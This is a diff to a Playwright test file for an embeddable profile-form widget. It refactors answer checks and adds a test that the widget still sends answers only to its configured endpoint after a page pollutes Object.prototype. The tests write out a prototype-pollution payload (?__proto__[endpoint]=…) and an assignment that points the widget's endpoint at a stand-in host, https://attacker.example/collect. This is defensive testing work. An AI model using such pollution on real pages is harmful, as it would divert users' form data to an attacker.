@@ -2,7 +2,7 @@
 // page goes to the page's origin or the endpoint; the strict-CSP page reports no violation in
 // any state of the widget; no answer value ever reaches an event, a dataLayer push or the
 // console.
-import { test, expect, b2bConfig, withEndpoint } from "./fixtures";
+import { test, expect, b2bConfig, withEndpoint, type Backend } from "./fixtures";
 import { breakableWrites, dumpIndexedDb, holdOutboxWrites } from "./idb";
 import { answerText, deliveredCount, mounted } from "./support/widget";
 import type { Page } from "@playwright/test";
@@ -223,6 +223,17 @@ test("no answer value in any event detail, dataLayer push or console line", asyn
   }
 });
 
+/** Answers the visit-1 questions on screen; both reach the backend as the page's anonymous person at visit 1. */
+async function answersGoAsTheAnonymousFirstVisit(page: Page, backend: Backend, name: string, email: string): Promise<void> {
+  await answerText(page, "Name", name);
+  await answerText(page, "Email address", email, "Submit");
+  const delivered = await deliveredCount(backend, 2, page);
+  expect(delivered.map((m) => [m.userId, m.visit, m.answers])).toEqual([
+    [null, 1, { name }],
+    [null, 1, { email }],
+  ]);
+}
+
 test("a page whose Object.prototype was polluted (?__proto__[endpoint]=… through a query-string parser) sends answers only to the config's endpoint, as the page's own person", async ({ page, context, hostPage, backend }) => {
   const elsewhere: string[] = [];
   await context.route("https://attacker.example/**", (route) => (elsewhere.push(route.request().url()), route.abort()));
@@ -239,13 +250,7 @@ test("a page whose Object.prototype was polluted (?__proto__[endpoint]=… throu
   await open("/t/polluted.html");
   // An anonymous first visit, in the browser's language, both visit-1 questions still to ask.
   await expect(page.getByText("1 / 2", { exact: true })).toBeVisible();
-  await answerText(page, "Name", "Ada Lovelace");
-  await answerText(page, "Email address", "ada@example.com", "Submit");
-  const delivered = await deliveredCount(backend, 2, page);
-  expect(delivered.map((m) => [m.userId, m.visit, m.answers])).toEqual([
-    [null, 1, { name: "Ada Lovelace" }],
-    [null, 1, { email: "ada@example.com" }],
-  ]);
+  await answersGoAsTheAnonymousFirstVisit(page, backend, "Ada Lovelace", "ada@example.com");
 
   // Polluted by assignment (enumerable keys, which zod's own objects then inherit), the widget
   // cannot build its checks: it says so once and shows nothing, and nothing is sent anywhere.
@@ -257,5 +262,19 @@ test("a page whose Object.prototype was polluted (?__proto__[endpoint]=… throu
   expect(errors[0]).toMatch(/^\[progressive-profile\] internal: /);
   await expect(page.locator("progressive-profile-root input")).toHaveCount(0);
   expect(await backend.delivered()).toHaveLength(2);
+  expect(elsewhere).toEqual([]);
+});
+
+test("Object.prototype polluted by assignment once the widget is up (a page script after the async tag): answers are still saved and sent, to the config's endpoint", async ({ page, context, hostPage, backend }) => {
+  const elsewhere: string[] = [];
+  await context.route("https://attacker.example/**", (route) => (elsewhere.push(route.request().url()), route.abort()));
+  await page.goto(await hostPage({ inlineConfig: withEndpoint(b2bConfig(), backend.endpoint), scriptAttributes: { "data-config": "#pp-config", "data-locale": "en" }, path: "/t/polluted-later.html" }));
+  await expect(page.getByRole("textbox", { name: "Name" })).toBeVisible();
+  // Enumerable keys, as a vulnerable parser's assignment makes them: for…in finds them on every object.
+  await page.evaluate(() => {
+    const polluted = { endpoint: "https://attacker.example/collect", user: "u_attacker", visit: "3", known: '{"email":"x@attacker.example"}' };
+    for (const [key, value] of Object.entries(polluted)) (Object.prototype as Record<string, unknown>)[key] = value;
+  });
+  await answersGoAsTheAnonymousFirstVisit(page, backend, "Grace Hopper", "grace@example.com");
   expect(elsewhere).toEqual([]);
 });
